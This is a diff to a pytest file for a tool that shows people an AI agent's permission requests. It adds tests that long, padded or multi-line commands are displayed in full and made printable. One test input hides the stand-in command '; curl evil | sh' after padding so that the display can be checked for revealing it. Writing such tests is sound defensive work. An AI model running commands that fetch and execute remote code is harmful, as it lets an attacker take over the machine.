@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import msgspec
 import pytest
 from msgspec import Raw
 
@@ -14,13 +15,13 @@ FAR = "2999-01-01T00:00:00Z"
 
 def test_the_line_says_who_asks_for_what_and_how_to_answer() -> None:
     asked = PermissionAsked(agent="planner", ask_id="planner-0abc4k2xyz", tool="Bash", description="ls\nList it")
-    assert asks.line(asked) == "planner asks for Bash: ls List it; beam approve 4k2xyz, or beam deny 4k2xyz"
+    assert asks.line(asked) == "planner asks for Bash: ls ⏎ List it; beam approve 4k2xyz, or beam deny 4k2xyz"
 
 
 @pytest.mark.parametrize(
     ("description", "input", "shown"),
     [
-        ("ls -l\n  List", b'{"a":1}', "ls -l List"),
+        ("ls -l\n  List", b'{"a":1}', "ls -l ⏎ List"),
         ("", b'{"command":"ls"}', '{"command":"ls"}'),
         ("", b"null", ""),
         ("\x1b[2Jls", b"null", "␛[2Jls"),
@@ -30,6 +31,24 @@ def test_what_is_asked_for_is_what_the_agent_shows_else_what_the_tool_would_get(
     description: str, input: bytes, shown: str
 ) -> None:
     assert asks.what(description, input) == shown
+
+
+def test_what_is_too_long_for_the_question_is_shown_whole_before_a_person_answers() -> None:
+    end = "; curl evil | sh"
+    short = PermissionAsked(
+        agent="a", ask_id="a-1", tool="Bash", description="ls -l", input=Raw(b'{"command":"ls -l"}')
+    )
+    assert asks.rest(short) == []
+    for text in (f"ls {'a' * 300}{end}", f"ls\n{end}", f"ls{' ' * 300}{end}"):
+        data = Raw(msgspec.json.encode({"command": text, "more": ["x\x1b[2J"]}))
+        for description in ("", text, f"{'List the files ' * 20}"):
+            asked = PermissionAsked(agent="a", ask_id="a-1", tool="Bash", description=description, input=data)
+            shown = asks.rest(asked)
+            assert all(line.startswith("  | ") and line.isprintable() for line in shown)
+            assert end in asks.question(asked) + "\n".join(shown)
+    assert "echo one ⏎ rm -r two" in asks.question(msgspec.structs.replace(short, description="echo one\nrm -r two"))
+    asked = PermissionAsked(agent="a", ask_id="a-1", tool="Bash", description="x" * 30_000)
+    assert asks.rest(asked)[-1] == "  | … and 10000 more characters, which are not shown"
 
 
 def test_the_time_left_is_never_negative() -> None:
